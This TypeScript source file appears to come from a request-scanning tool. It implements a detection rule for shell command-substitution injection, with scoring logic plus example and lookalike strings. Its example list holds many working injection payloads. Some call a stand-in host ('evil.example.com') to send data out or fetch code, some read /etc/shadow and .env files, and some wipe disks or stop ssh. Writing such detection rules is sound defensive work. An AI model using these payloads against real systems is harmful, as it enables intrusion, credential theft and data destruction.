import { type Command, fit } from '../../grammars/shell/command.ts';
import { commands } from '../../grammars/shell/commands.ts';
import { introducer } from '../../grammars/shell/shell-introducer.ts';
import { developerTools, use, usesOf } from '../../knowledge/commands.ts';
import {
  isArgumentOfCommand,
  isBetweenQuotes,
  isTypedCall,
  namesSecret,
} from '../../placement/command-place.ts';
import { confidence } from '../../placement/confidence.ts';
import { isSaidCommand } from '../../placement/own-line.ts';
import type { Subject } from '../../placement/subject.ts';
import { endsInValue, isBesideValue, isInValue } from '../../placement/value-place.ts';
import { endsValue, isGluedTo, wordsBefore } from '../../text/place.ts';
import { wordSet } from '../../text/words.ts';
import { inMember, type Match, type ValueRule } from '../rule.ts';

/** `$(id)`, `` `id` ``, `<(curl …)`. */
export const substitution: ValueRule = {
  id: 'cmdi.substitution',
  score: confidence.certain,
  message: 'makes a shell run a command and put its output in place',
  trigger: { literals: [['$(', '`', '<(', '>(']] },
  judge,
  examples: [
    ...inMember('host', 'it came too late `sleep 15`', '`sleep 15` ; it came too late'),
    { body: { 'query.country': 'it came too late $(env|base64)' } },
    { body: { 'query.name': 'www.example.com`id -u` it came too late' } },
    'x;`for f in id; do echo $f; done`',
    "The lamp came in a box that was much too large'$(id)' and so on",
    "The lamp came in a box that was much too large'`hostname`' and so on",
    'It came too late, and so on ${`cat /srv/a`} it did',
    'The files that I mean are these: $(curl http://evil.example.com/a)',
    ...['$(nslookup evil.example.com)', '`id`', 'photo$(sleep 7).jpg', 'who$(echo am)i'],
    ...['bash <(curl -s http://evil.example.com/x)', 'a.png${x:-$(dmesg)}'],
    'It is broken again.$(systemctl stop ssh)',
    ...['$(. /etc/hosts)', '12`sudo -l`', 'holiday`systemctl stop ssh`', '-`reboot`'],
    'It ends with $(cat /etc/hosts) as usual',
    'It ends with $(curl http://evil.example.com/) as usual',
    'It ends with $(whoami | nc evil.example.com 80) as usual',
    'see http://evil.example.com/$(whoami) and so on',
    'look at $(whoami).evil.example.com and so on',
    'send it to evil.example.com/$(hostname) and so on',
    ...['It ends with $(wh""oami) as usual', 'It ends with $(pwd;touch a) as usual'],
    'It ends with $(date +%F && touch a) as usual',
    ...['$(dd if=/dev/zero of=/dev/sda)', "x;a='$(id)';: ${a@P}"],
    ...['x;$(expr substr xid 2 2)', '$(</etc/hosts)'],
    '`until rev;! :;do break;done</etc/shadow|rev`',
    ...['photo`< /etc/hosts`', '-" &\techo $(</etc/hosts);echo "'],
    'broken again.$(f(){ echo $(</home/ann/.bash_history)\n};f)',
    { body: { 'body.message': 'It is broken again.$(\techo $(<$PWD/.env)&\t)' } },
    'like `rm -rf x`',
    ...inMember('body.comment', 'just run `grep -r SECRET`', 'photo.png `rm -rf dist`'),
    ...inMember('query.comment', '使用`cat .env`命令', '`whoami`が動かない', 'Was macht `id`?'),
  ],
  lookalikes: [
    { body: { filename: 'apples and pears of `Gala`, sorted.pdf' } },
    'Run `ls -la` in the folder, then `cat README.md` shows the text',
    '$(document).ready(function () { $("#id").hide(); })',
    'the price is $(12) less',
    '`npm install` does not work for me, what now?',
    'mount it with -v $(pwd)/data:/data and start the image again please',
    ...['`less` or `more`?', "bad option `id'!"],
    ...['What does `whoami` do?', '#### [`git add`](/docs/add)'],
    ...['\\$(\\w+|[^}]*)', 'Add $(npm root --global) to the path.'],
    '> `npm install --save @types/node`',
    '- [meta] export `./package.json` [`#9`](https://example.com/9)',
    '### `hostname`\n\n* `ip` {string}',
    'Execute `find -type f | egrep -i "(jpg|png)$"` every 300 seconds',
    ...['> See also: `jobs`, `bg`, `disown`.', '使用命令 `git add --intent-to-add` 标记新增文件'],
    'Use`reboot` or `systemctl stop ssh` here',
    ...['- `systemctl stop ssh`', '$((3)) is a sum, and `sleep` is not'],
    ...['See also: `reboot`.', 'Lihat juga: `basename`.'],
    'In bash $(<file.txt) does the same as cat, but faster.',
    ...['use `<b>` here', 'page;$(document).ready(init)'],
    'sudo apt install linux-headers-$(uname -r) did not help',
    'The fix was to run kill -9 $(lsof -t -i:3000) on my machine',
    'The Dockerfile has RUN apt-get install -y $(cat packages.txt) in it',
    "the shell puts the folder in place of '$(pwd)' and goes on",
    'It ends with $(uname -r) as usual',
    'Get https://www.example.com/tool-$(uname -s) and make it executable',
    'In a script, DIR=$(cd "$(dirname "$0")" && pwd) is the usual way to find the folder',
    'files=$(find out -name a.png | head -20) in CI',
    'It takes $(date|time) or $(pwd; then more) there',
    'Installing linux-headers-$(uname -r) solved the problem for me',
    'Please run sudo chown -R $(whoami) /usr/local and try again',
    'The log says:\n\nmodules for $(uname -r) are missing',
    'It is class=${`cat ${color}`} in the template, and ${`cat`} there',
    'like `chown -R`',
    ...inMember('query.q', 'what does `sleep 15` do', '使用`date`命令', 'Was macht `df -h`?'),
    'const user = await repository.find<User>(id); cast<boolean>(true)',
    { body: { 'body.text': 'just do `rm -rf node_modules && npm i`' } },
    { body: { 'body.description': 'I run `sudo apt update && sudo apt upgrade -y` every week' } },
  ],
};

function judge(subject: Subject): Match | undefined {
  const text = subject.text;
  const reading = subject.tokens(commands);
  if (!reading.complete) subject.incomplete('tokens');
  let best: Match | undefined;
  const listing = text.search(listingMark);
  for (const command of reading.list) {
    const { head } = command;
    if (head.introducer < introducer.substitution) continue;
    const score =
      head.introducer === introducer.backtick
        ? backtickScore(subject, command)
        : closedScore(subject, command, listing >= 0 && listing < head.start);
    if (score > (best?.score ?? 0)) {
      best = { start: head.start, end: closing(text, command), score };
    }
    if (score >= confidence.certain) break;
  }
  return best ?? readsFile(subject, reading.list);
}

/** `$(</etc/hosts)`: the content of a file without any command (bash and zsh, command substitution). */
function readsFile(subject: Subject, list: readonly Command[]): Match | undefined {
  const { text } = subject;
  const found = fileRead.exec(text);
  if (found === null) return undefined;
  const start = found.index;
  const end = start + found[0].length;
  const isOfScript = list.some(
    ({ head, structured, chain }) =>
      head.nameEnd === start - 1 &&
      (structured || chain < head.start || isGluedTo(text, head.start)),
  );
  // Scripts that are shown name their own folder.
  const isFirst = !found[0].includes('$', 1) || wordsBefore(text, start) === 0;
  const isValue = isFirst && isBesideValue(subject, start) && endsValue(text, end);
  return isOfScript || isValue ? { start, end, score: confidence.strong } : undefined;
}

const fileRead =
  /\$\(\s{0,8}<\s{0,8}['"]?(?:~|\.{1,2}|\$\{?(?:PWD|HOME)\}?)?\/[\w./*?[\]'"\\-]{3,120}\s{0,8}\)|`\s{0,8}<\s{0,8}['"]?(?:~|\.{1,2}|\$\{?(?:PWD|HOME)\}?)?\/[\w./*?[\]'"\\-]{3,120}\s{0,8}`/;

/** What an example in a text stands behind. */
const listingMark = /[\n`]/;
const closers = ')|;&';

/** `isListed`: in a later line of a text, or behind marks of code. */
function closedScore(subject: Subject, command: Command, isListed: boolean): number {
  const { text } = subject;
  const { head } = command;
  if (command.hidden) return confidence.certain;
  if (command.fit >= fit.aloneWord && isBetweenQuotes(text, head.start, command.end + 1))
    return confidence.strong;
  if (onlyNames(text, command) || isTypedCall(text, head.start)) return confidence.hint;
  if (runsMore(text, command) || isRun(subject, command)) return confidence.strong;
  if (command.fit === fit.none) return 0;
  const isPlaced = isPlacedAt(subject, command) || isGluedTo(text, head.start);
  if (isPlaced && (command.structured || command.fit === fit.full)) return confidence.certain;
  if (command.fit === fit.full) return mentionScore(text, command, isListed);
  if (command.fit === fit.weak) return weakScore(text, command);
  return aloneScore(subject, command, isPlaced);
}

/** A command without arguments. */
function aloneScore(subject: Subject, command: Command, isPlaced: boolean): number {
  const { text } = subject;
  const ends = isClosed(text, command);
  if (command.fit === fit.sureAlone) return ends || isPlaced ? confidence.strong : confidence.hint;
  const isHere = isOfScript(text, command) || isInValue(subject, command.head.start);
  const isLast = isHere || endsValue(text, command.end + 1);
  if (!ends || !isPlaced || !isLast) return confidence.trace;
  return command.fit === fit.alone ? confidence.strong : confidence.likely;
}

/** A whole command in the middle of a text. */
function mentionScore(text: string, { head, name, end }: Command, isListed: boolean): number {
  if (namesSecret(text, head.start, end)) return confidence.certain;
  const isShown = isListed || developerTools.has(name) || isArgumentOfCommand(text, head.start);
  return isShown ? confidence.hint : confidence.strong;
}

function weakScore(text: string, command: Command): number {
  const { head, name, uses, end } = command;
  if (developerTools.has(name) && !namesSecret(text, head.start, end)) return confidence.hint;
  const isSure = (uses & use.english) === 0 && isClosed(text, command);
  return isSure ? confidence.strong : confidence.trace;
}

/** `;$(expr substr xid 2 2)`: what the command prints is the name of the next one. */
function isRun(subject: Subject, command: Command): boolean {
  const { text } = subject;
  const { head, uses, end } = command;
  if ((uses & use.english) !== 0 || !isPlacedAt(subject, command)) return false;
  return (
    isClosed(text, command) &&
    separator.test(text.slice(0, head.start).slice(-6)) &&
    end > head.nameEnd
  );
}

const separator = /[;|&]\s{0,4}$/;

const isClosed = (text: string, { end }: Command): boolean => closers.includes(text.charAt(end));

/**
 * `$(pwd;touch m)`: behind a command that only tells something a second one, which scripts do not
 * write.
 */
function runsMore(text: string, { end, name: first }: Command): boolean {
  if (!namers.has(first)) return false;
  const name = more.exec(text.slice(end, end + moreCharsMax))?.[1]?.toLowerCase() ?? '';
  return usesOf(name) !== 0 && !namers.has(name) && !developerTools.has(name);
}

const moreCharsMax = 100;
const more = /^ {0,2}(?:;|&&?|\n)\s{0,4}([a-z][\w-]{1,20})(?:\s[^()]{0,60})?\)/i;

/**
 * `It ends with $(uname -r) as usual`: within a sentence, and all that the command does is to name
 * something of the machine, which is sent to no other. What takes a file, asks another machine or
 * changes something is no such.
 */
function onlyNames(text: string, { head, name, end, structured }: Command): boolean {
  if (!namers.has(name) || text.charCodeAt(end) !== closeParen) return false;
  const given = text.slice(head.nameEnd, end);
  if (ownScript.test(given)) return true;
  if (structured || !plainGiven.test(given)) return false;
  const before = text.slice(Math.max(0, head.start - argumentCharsMax), head.start);
  const behind = text.slice(end + 1, end + 1 + argumentCharsMax);
  if (identity.has(name) && (address.test(before) || domain.test(behind))) return false;
  return leadsTo.test(before) && goesOn.test(behind);
}

const namers: ReadonlySet<string> = wordSet(
  'uname hostname whoami id pwd date dirname basename nproc arch lsb_release getconf which ls',
);
/** What an intruder asks for; a release for this kind of machine is in many addresses. */
const identity: ReadonlySet<string> = new Set(['whoami', 'id', 'hostname', 'pwd', 'ls']);
/** The name becomes part of an address, or goes to one. */
const address = /:\/\/|[\w-]\.[a-z]{2,24}[/?:]\S{0,40}$/i;
const domain = /^["'`]{0,2}[.@][a-z\d-]{1,60}\.[a-z]/i;
const closeParen = 41;
/** Where the script itself stands: with this nothing is asked. */
const ownScript = /^ (?:--? )?["']?\$(?:0|BASH_SOURCE|\{BASH_SOURCE(?:\[0\])?\})["']?$/;
/** Options, the script's own name, a pattern of files of a folder. */
const plainGiven =
  /^(?: {1,2}(?:--?[\w-]{1,20}|\+?%[\w%-]{1,20}|["']?\$[\d@]["']?|(?:\*|[\w-]{1,20})\.\w{1,4}|\w{1,20}))?(?: {1,2}-\w{1,4})? ?$/;
/** A word of the sentence, and no more than a word or a quote joined to the substitution. */
const leadsTo = /(?:^|\s)\p{L}{2,24}[,:]?\s(?:-\w{1,4}\s)?\S{0,40}$/u;
/** It goes on behind the word that the substitution is part of. */
const goesOn = /^["'`)\]]{0,2}(?: ?[\w~./:-]{1,40}(?=\s))?(?: \p{L}[\p{L}'’-]{0,24}[,.!?]?){2}/u;

const argumentCharsMax = 100;

/** In a script that stands beside a value, or beside one itself. */
function isPlacedAt(subject: Subject, { chain, head }: Command): boolean {
  return chain < head.start || isBesideValue(subject, head.start);
}

/** Markdown marks code with backticks: only a value that is nothing else is an attack. */
function backtickScore(subject: Subject, command: Command): number {
  const { text } = subject;
  const { head, fit: found } = command;
  const { start } = head;
  const end = text.indexOf('`', command.end) + 1;
  if (isScript(subject, command, end)) return confidence.certain;
  if (found < fit.aloneWord) return 0;
  // Without its end a substitution runs nothing (POSIX, 2.6.3): a quotation mark, as in `id'.
  if (end === 0 || isDocumented(text, start, end)) return confidence.trace;
  if (isJoined(text, start, end)) return confidence.certain;
  if (isInWord(text, command, end)) return confidence.strong;
  if (isOwnTool(text, command, end)) return confidence.trace;
  if (!standsAlone(subject, start, end))
    return command.hidden && found === fit.full ? confidence.hint : confidence.trace;
  if (found === fit.aloneWord)
    return isQuotedFirst(text, start) || isGluedTo(text, start)
      ? confidence.likely
      : confidence.trace;
  return found === fit.alone ? confidence.strong : confidence.certain;
}

function isScript(subject: Subject, command: Command, end: number): boolean {
  const { text } = subject;
  if (!command.structured || command.fit === fit.none) return false;
  if (!isPlacedAt(subject, command) && !isGluedTo(text, command.head.start)) return false;
  return !namingLoop.test(text.slice(command.head.start, end));
}

/** Between quotes, or in a word of a script that stands beside a value: `;x='a[\`id\`]'`. */
function isInWord(text: string, command: Command, end: number): boolean {
  const { start } = command.head;
  const isOpen = text.startsWith('${', start - 2) && text.charAt(end) === '}';
  // To PHP a variable by the name that the command prints; a template of ECMAScript would compute more.
  if (isOpen && command.fit === fit.full && !text.slice(start, end).includes('${')) return true;
  if (isBetweenQuotes(text, start, end)) return true;
  return isOfScript(text, command) && scriptMark.test(text.charAt(start - 1));
}

/** A separator beside a value begins the script: what goes on behind the command is of it, too. */
function isOfScript(text: string, { chain, head }: Command): boolean {
  return chain < head.start && separators.includes(text.charAt(chain));
}

const separators = ';|&\n';

const scriptMark = /['"[=]/;

/**
 * The name of a document; a command without what it works on, which does nothing; an item of a list;
 * the example of a sentence.
 */
function isDocumented(text: string, start: number, end: number): boolean {
  return (
    documentPath.test(text.slice(start, end)) ||
    namingLoop.test(text.slice(start, end)) ||
    withoutOperand.test(text.slice(start, end)) ||
    listMark.test(text.slice(Math.max(0, start - 24), start)) ||
    isIntroduced(text, start, end)
  );
}

/** A tool of developers that runs no code of its arguments. */
function isOwnTool(text: string, { head, name, hidden }: Command, end: number): boolean {
  return (
    developerTools.has(name) &&
    !hidden &&
    !runsCode.test(text.slice(head.start, end)) &&
    !namesSecret(text, head.start, end)
  );
}

/** Beside a value, and neither the name of a link of Markdown, [`name`](target), nor a word of a sentence. */
function standsAlone(subject: Subject, start: number, end: number): boolean {
  const { text } = subject;
  if (text.charAt(end) === ']' || text.charAt(start - 1) === '[') return false;
  const isSaid = isInSentence(text, start, end) || isSaidCommand(subject, start, end);
  if (isSaid && !isInValue(subject, start)) return false;
  const isJoint = joint.test(text.charAt(start - 1)) && isInValue(subject, start);
  const ends = isJoint || endsValue(text, end) || endsInValue(subject, end);
  return (isBesideValue(subject, start) && ends) || isGluedTo(text, start);
}

/** Behind a quote, and no blank in front of it. */
function isQuotedFirst(text: string, start: number): boolean {
  return quotes.includes(text.charAt(start - 1) || ' ') && !text.slice(0, start).includes(' ');
}

/**
 * `12\`reboot\``: joined to the only word in front of it, and nothing but quotes behind. Code that
 * is shown stands apart from words.
 */
function isJoined(text: string, start: number, end: number): boolean {
  return (
    start > 0 &&
    start < joinedMax &&
    joined.test(text.slice(0, start)) &&
    nothing.test(text.slice(end))
  );
}

const joinedMax = 60;
const joined = /^[\w.@/-]*[A-Za-z\d-]["']?$/;
const nothing = /^["'\s;#]{0,4}$/;

/** `` `chown -R` ``: each of these only says how it is used. */
const withoutOperand =
  /^`(?:(?:rm|cp|mv|ln|chmod|chown|chgrp|mkdir|rmdir|touch|e?grep)(?: -[A-Za-z]{1,5}){0,2}|tar -[cxtzjv]{0,4}f?|sed -[inE]{1,3})`$/;
/** `./package.json` in marks of code: a file of a project, which is no program. */
const documentPath =
  /^`\.{1,2}\/[\w./@-]{1,80}\.(?:json|md|[cm]?[jt]sx?|css|html?|ya?ml|txt|toml|png|svg)`$/;

/** `for f in *; { echo $f; }`: it only says what is there. */
const namingLoop =
  /^`for (\w{1,16}) in [\w.-]{0,16}\*[\w.*-]{0,16} ?; ?(?:do|\{) echo "?\$\{?\1\}?"? ?;? ?(?:done|\})`$/;

/** ``See also: `jobs`.``: words and a colon, and the full stop of the sentence. */
function isIntroduced(text: string, start: number, end: number): boolean {
  return (
    text.slice(end).trim() === '.' && introduction.test(text.slice(Math.max(0, start - 60), start))
  );
}

const introduction = /\p{L}{2,30} \p{L}{2,30}: $/u;

/** The mark of a heading, a quotation or a list of Markdown right before it. */
const listMark = /(?:^|\n)\s{0,8}(?:#{1,6}|[*+>-]|\d{1,2}\.) $/;
/** `-c '…'`, `-e "…"` */
const runsCode = / -[a-z]{0,3}[cer]\b ?['"]?/;

/** Words on both sides, apart: ``What does `whoami` do?`` */
function isInSentence(text: string, start: number, end: number): boolean {
  return text.charCodeAt(start - 1) === 32 && wordAfter.test(text.slice(end, end + 4));
}

const wordAfter = /^ \p{L}/u;
const joint = /[\w.@/-]/;
const quotes = '"\'';

function closing(text: string, command: Command): number {
  const close = command.head.introducer === introducer.backtick ? '`' : ')';
  const at = text.slice(command.end, command.end + 64).indexOf(close);
  return at < 0 ? command.end : command.end + at + 1;
}
